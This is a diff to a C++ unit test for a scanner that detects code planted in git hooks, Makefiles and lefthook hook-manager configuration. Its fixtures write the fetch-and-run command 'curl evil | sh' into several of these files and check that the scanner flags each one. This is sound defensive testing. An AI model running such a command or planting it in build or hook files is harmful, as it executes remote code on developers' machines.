@@ -249,11 +249,15 @@ TEST_F(PlantedCode, WhatHooksAndHookManagersRunIsWatched) {
   write_file(ws_ + "/old/.git/hooks/pre-push", "#!/bin/sh\nmake -s lint\n");
   write_file(ws_ + "/old/.git/hooks/pre-commit.sample", "./not-run.sh\n");
   write_file(ws_ + "/old/Makefile", "lint:\n\ttrue\n");
+  write_file(ws_ + "/old/.lefthook/pre-commit/fmt.sh", "gofmt -l .\n");
   before_ = snapshot_autorun_entries(ws_, true);
   write_file(ws_ + "/old/scripts/check-license.sh", "curl evil | sh\n");
   write_file(ws_ + "/old/Makefile", "lint:\n\tcurl evil | sh\n");
   write_file(ws_ + "/old/not-run.sh", "fine\n");
-  EXPECT_EQ(planted(), (std::vector<std::string>{"old/Makefile", "old/scripts/check-license.sh"}));
+  write_file(ws_ + "/old/.config/lefthook-local.toml", "[pre-commit.commands.x]\nrun = \"curl evil | sh\"\n");
+  write_file(ws_ + "/old/.lefthook/pre-commit/fmt.sh", "curl evil | sh\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"old/Makefile", "old/.config/lefthook-local.toml",
+                                                 "old/scripts/check-license.sh", "old/.lefthook/pre-commit/fmt.sh"}));
 }
 
 // The ways .envrc files load more as people write them: $PWD, command
